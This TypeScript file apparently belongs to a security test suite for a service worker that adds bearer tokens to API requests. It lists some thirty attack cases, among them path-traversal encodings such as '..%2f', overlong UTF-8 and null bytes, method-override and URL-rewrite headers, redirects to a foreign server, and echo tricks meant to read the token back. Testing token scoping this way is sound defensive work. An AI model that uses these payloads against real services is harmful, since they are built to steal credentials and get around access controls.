import { describeRequests } from '../detector.ts';
import type { Attack } from '../attack.ts';
import type { Scene } from '../scene.ts';
import { comesTrue } from '../until.ts';
import { send } from '../visit.ts';

/** Time limit for a request to arrive that no script waits for, in milliseconds. */
const ARRIVES_MS = 20_000;

/** A worker that adds tokens as it is told, and what comes along with a request. */
const REQUEST = { scenario: '5.1.4', naive: 'worker', keepsPage: true } as const;
/** The same, where the token itself is to be had. */
const THEFT = { scenario: '5.1.1', naive: 'worker', keepsPage: true } as const;

/** What reached the second resource of an attack, which carries its id. */
function received(scene: Scene, id: string): unknown {
  return describeRequests(scene.received().filter(({ path }) => path.endsWith(id)));
}

/** Sends a request by script, and looks what came along. */
function fetching(id: string, title: string, path: string, init: RequestInit = {}): Attack {
  return {
    id,
    title,
    ...REQUEST,
    act: async (scene) => {
      await send(scene.tab, `${scene.servers.resource.origin}${path}?${id}`, init);
      return { seen: received(scene, id) };
    },
  };
}

/** Places markup, waits until it has loaded something, and looks what came along. */
function placing(id: string, title: string, markup: (url: string) => string): Attack {
  return {
    id,
    title,
    ...REQUEST,
    act: async (scene) => {
      await scene.tab.evaluate(
        async ({ html, selector }) => {
          const box = document.createElement('div');
          box.innerHTML = html;
          const loading = box.querySelector(selector);
          const loaded = new Promise((resolve) => {
            for (const type of ['load', 'error', 'loadeddata']) loading?.addEventListener(type, resolve);
          });
          document.body.append(box);
          await loaded;
        },
        { html: markup(`${scene.servers.resource.origin}/v1/x?${id}`), selector: '[src],[href]' },
      );
      return { seen: received(scene, id) };
    },
  };
}

/** Has the API give the header fields of a request back, and reads all of its answer. */
function echoing(id: string, title: string, echo: 'body' | 'base64' | 'header'): Attack {
  return {
    id,
    title,
    ...THEFT,
    act: async ({ tab, servers: { resource } }) => ({
      seen: await tab.evaluate(async (url) => {
        const response = await fetch(url);
        const text = await response.text().catch(String);
        return [response.url, [...response.headers].flat().join('\n'), text].join('\n');
      }, `${resource.origin}/v1/x?echo=${echo}`),
    }),
  };
}

export const API_ATTACKS: readonly Attack[] = [
  {
    id: 'A01',
    title: 'requests an origin whose port begins like that of the API',
    ...THEFT,
    act: async ({ tab, servers: { foreign } }) => {
      await send(tab, `${foreign.origin}/v1/A01`);
      return { seen: '' };
    },
  },
  fetching('A02', 'requests a path beside that of the API, with the same beginning', '/v1-internal/x'),
  fetching('A03', 'leaves the path of the API by dot segments', '/v1/x/../../admin'),
  fetching('A04', 'leaves the path of the API by encoded dots', '/v1/%2e%2e/admin'),
  fetching('A05', 'leaves the path of the API by an encoded slash', '/v1/..%2fadmin'),
  fetching('A06', 'leaves the path of the API by an encoded backslash', '/v1/..%5cadmin'),
  fetching('A07', 'leaves the path of the API by dots and slashes that are encoded twice', '/v1/%252e%252e%252fadmin'),
  fetching('A08', 'leaves the path of the API by a path parameter', '/v1/..;x/admin'),
  fetching('A09', 'requests the path of the API in capital letters', '/V1/x'),
  fetching('A10', 'requests the path of the API after two slashes', '//v1/x'),
  fetching('A11', 'sends a method that the configuration does not allow', '/v1/x', { method: 'DELETE' }),
  fetching('A12', 'sends an allowed method with a header that stands for another', '/v1/x', {
    method: 'POST',
    headers: { 'x-http-method-override': 'DELETE' },
    body: '{}',
  }),
  fetching('A13', 'sends a request without CORS, as markup does', '/v1/x', {
    mode: 'no-cors',
    method: 'POST',
    body: 'x',
  }),
  placing('A14', 'places an image', (url) => `<img src="${url}">`),
  placing('A15', 'places a style sheet', (url) => `<link rel="stylesheet" href="${url}">`),
  {
    ...placing('A16', 'places a sound', (url) => `<audio preload="auto" src="${url}"></audio>`),
    notIn: { firefox: 'asks no worker for media of another origin' },
  },
  {
    id: 'A17',
    title: 'loads a response of the API as a script',
    ...REQUEST,
    act: async (scene) => {
      await scene.tab.evaluate(async (url) => {
        const script = document.createElement('script');
        script.src = url;
        const done = new Promise((resolve) => {
          for (const type of ['load', 'error']) script.addEventListener(type, resolve);
        });
        document.head.append(script);
        await done;
      }, `${scene.servers.resource.origin}/v1/x?A17`);
      return { seen: received(scene, 'A17') };
    },
  },
  {
    id: 'A18',
    title: 'sends a beacon',
    ...REQUEST,
    act: async (scene) => {
      await scene.tab.evaluate((url) => {
        navigator.sendBeacon(url, 'x');
      }, `${scene.servers.resource.origin}/v1/x?A18`);
      await comesTrue(async () => scene.received().some(({ method }) => method === 'POST'), ARRIVES_MS);
      return { seen: received(scene, '?A18') };
    },
  },
  {
    id: 'A19',
    title: 'has the API redirect to a server of its own',
    ...THEFT,
    act: async ({ tab, servers: { resource, foreign, api } }) => {
      for (const from of [`${resource.origin}/v1/x`, `${api.url}/me`])
        await send(tab, `${from}?redirect=${encodeURIComponent(`${foreign.origin}/A19`)}`);
      return { seen: '' };
    },
  },
  {
    id: 'A20',
    title: 'has the API redirect to a path of the same origin outside the API',
    ...THEFT,
    act: async (scene) => {
      const { origin } = scene.servers.resource;
      await send(scene.tab, `${origin}/v1/x?redirect=${encodeURIComponent(`${origin}/beside?A20`)}`);
      return { seen: received(scene, '/beside?A20') };
    },
  },
  echoing('A21', 'has the API send the token back in its response', 'body'),
  echoing('A22', 'has the API send the token back in base64', 'base64'),
  echoing('A23', 'has the API send the token back in a header field', 'header'),
  {
    id: 'A24',
    title: 'has the API send the token back a few bytes at a time, by ranges',
    ...THEFT,
    act: async ({ tab, servers: { resource } }) => ({
      seen: await tab.evaluate(async (url) => {
        let seen = '';
        for (let part = ' '; part && seen.length < 4096; seen += part) {
          const range = `bytes=${seen.length}-${seen.length + 15}`;
          part = await fetch(url, { headers: { range } })
            .then((response) => response.text())
            .catch(() => '');
        }
        return seen;
      }, `${resource.origin}/v1/x?echo=body`),
    }),
  },
  fetching('A26', 'leaves the path of the API by an encoded query', '/v1/..%3f/admin'),
  fetching('A27', 'leaves the path of the API by dots in overlong UTF-8, of two bytes', '/v1/%c0%ae%c0%ae/admin'),
  fetching('A28', 'leaves the path of the API by a zero byte after dots', '/v1/..%00/admin'),
  {
    id: 'A29',
    title: 'has the API send the token back, and takes the response from the HTTP cache',
    ...THEFT,
    act: async ({ tab, servers: { resource } }) => ({
      seen: await tab.evaluate(
        async (urls) => {
          const read = async (url: string, init: RequestInit): Promise<string> => {
            const response = await fetch(url, init);
            return [...response.headers].flat().join('\n') + (await response.text());
          };
          const seen: string[] = [];
          for (const url of urls) {
            await read(url, {}).catch(() => {});
            // With a header of its own, the worker adds none.
            const init: RequestInit = { cache: 'force-cache', headers: { authorization: 'Bearer of-the-attacker' } };
            seen.push(await read(url, init).catch(String));
          }
          return seen;
        },
        ['body', 'header'].map((echo) => `${resource.origin}/v1/x?echo=${echo}&A29`),
      ),
    }),
  },
  fetching('A30', 'leaves the path of the API by dots as Unicode escapes', '/v1/%u002e%u002e/admin'),
  fetching(
    'A31',
    'leaves the path of the API by dots in overlong UTF-8, of three bytes',
    '/v1/%e0%80%ae%e0%80%ae/admin',
  ),
  {
    id: 'A32',
    title: 'has the API send the token back in base64 over lines, at every place of a line',
    ...THEFT,
    act: async ({ tab, servers: { resource } }) => ({
      seen: await tab.evaluate(async (url) => {
        // 76 columns are 57 bytes.
        const urls = Array.from({ length: 57 }, (_, padding) => url + 'x'.repeat(padding));
        const answers = urls.map((each) => fetch(each).then((response) => response.text()));
        const settled = await Promise.allSettled(answers);
        return settled
          .map((answer) => (answer.status === 'fulfilled' ? answer.value.replace(/\s/g, '') : ''))
          .join('\n');
      }, `${resource.origin}/v1/x?echo=wrapped&A32`),
    }),
  },
  fetching('A25', 'sends an allowed path with a header that stands for another', '/v1/x', {
    headers: { 'x-original-url': '/admin', 'x-rewrite-url': '/admin' },
  }),
];
